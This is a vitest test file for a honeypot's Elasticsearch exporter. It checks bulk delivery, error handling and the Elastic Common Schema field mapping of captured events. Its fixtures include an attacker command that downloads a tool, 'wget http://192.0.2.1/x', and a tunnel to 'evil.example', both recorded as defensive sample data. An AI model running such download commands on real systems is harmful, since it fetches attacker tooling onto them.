import { expect, it } from 'vitest';
import { CONTRACT_KEY, testExporter } from '../exporter.contract.ts';
import { sampleCommand, sampleDetection, sampleLogged, sampleLogin } from '../exporter-sample.ts';
import { ecsDocument } from './ecs-document.ts';
import { exporter as connector } from './exporter.ts';

const created = (...statuses: readonly number[]) => ({
  body: {
    took: 3,
    errors: statuses.some((status) => status > 299),
    items: statuses.map((status) => ({
      create: {
        _index: 'traps',
        status,
        ...(status < 300 ? {} : { error: { type: 'some_exception', reason: 'as documented' } }),
      },
    })),
  },
});
const common = {
  '@timestamp': '2026-05-01T10:00:00.123456Z',
  ecs: { version: '8.17.0' },
  observer: { vendor: 'CerberusMesh', product: 'CerberusMesh', type: 'honeypot', name: 'sensor-1' },
  labels: { trap: 'ssh', session_id: '01990000-0000-7000-8000-0000000000aa' },
  network: { protocol: 'ssh' },
  source: { address: '198.51.100.7', ip: '198.51.100.7', port: 40_000 },
  destination: { address: '203.0.113.5', ip: '203.0.113.5', port: 22 },
};

testExporter({
  connector,
  settings: (url) => ({ url, apiKey: CONTRACT_KEY, index: 'traps' }),
  accepted: created(201),
  refused: { status: 401, body: { error: { type: 'security_exception' } } },
  rejected: created(400),
  additional({ deliver }) {
    it('creates documents by the ids of events, and takes what is there for delivered', async () => {
      const { delivery, requests } = await deliver(created(201, 409), [sampleLogin(1), sampleCommand(2)]);
      expect(delivery).toEqual({ rejected: [] });
      expect(requests[0]).toMatchObject({
        method: 'POST',
        url: '/_bulk',
        headers: { authorization: `ApiKey ${CONTRACT_KEY}`, 'content-type': 'application/x-ndjson' },
      });
      const lines = requests[0]?.body.split('\n') ?? [];
      expect(lines.length).toBe(5);
      expect(lines.at(-1)).toBe('');
      expect(JSON.parse(lines[2] ?? '')).toEqual({ create: { _index: 'traps', _id: sampleCommand(2).event.id } });
    });

    it('names the documents that a mapping refuses, and tries all again when one finds no room', async () => {
      const events = [sampleLogin(1), sampleCommand(2), sampleCommand(3)];
      expect((await deliver(created(201, 400, 201), events)).delivery).toEqual({
        rejected: [{ eventId: sampleCommand(2).event.id, reason: 'some_exception: as documented' }],
      });
      expect((await deliver(created(201, 400, 429), events)).delivery).toMatchObject({ failure: 'rate-limited' });
      expect((await deliver(created(201), events)).delivery).toMatchObject({ failure: 'server-error' });
    });

    it('names fields as the Elastic Common Schema does', () => {
      const login = sampleLogin(1);
      expect(ecsDocument(login)).toEqual({
        ...common,
        message: 'A login was refused',
        event: {
          id: login.event.id,
          sequence: 1,
          kind: 'event',
          category: ['authentication'],
          type: ['start'],
          action: 'credential.tried',
          module: 'cerberusmesh',
          dataset: 'cerberusmesh.events',
          severity: 3,
          outcome: 'failure',
          original: JSON.stringify(login.event),
        },
        user: { name: 'root' },
      });
      const detection = sampleDetection(2);
      expect(ecsDocument(detection)).toEqual({
        ...common,
        message: 'A technique was seen',
        event: {
          id: detection.event.id,
          sequence: 2,
          kind: 'alert',
          category: ['intrusion_detection'],
          type: ['info'],
          action: 'detection.raised',
          module: 'cerberusmesh',
          dataset: 'cerberusmesh.events',
          severity: 6,
          risk_score: 90,
          original: JSON.stringify(detection.event),
        },
        process: { command_line: 'wget http://192.0.2.1/x' },
        threat: {
          framework: 'MITRE ATT&CK',
          technique: { id: ['T1105'], name: ['Ingress Tool Transfer'] },
          tactic: { name: ['command-and-control'] },
        },
        rule: { name: 'download-tool' },
      });
    });

    it('puts no name where only an address may be, and no word of an attacker in a name of a field', () => {
      const target = { address: 'evil.example', port: 25 };
      const tunnel = ecsDocument(sampleLogged(3, { kind: 'tunnel.requested', data: { target } }));
      expect(tunnel).toMatchObject({ destination: { address: 'evil.example', port: 25 } });
      expect(JSON.stringify(tunnel)).not.toContain('"ip":"evil');
      const fields = { field_of_an_attacker: { deep: 1 } };
      const data = { system: 'cowrie', eventId: 'x', fields };
      const foreign = ecsDocument(sampleLogged(4, { kind: 'foreign.observed', data }));
      expect(JSON.stringify({ ...foreign, event: { ...foreign.event, original: '' } })).not.toContain('attacker');
    });
  },
});
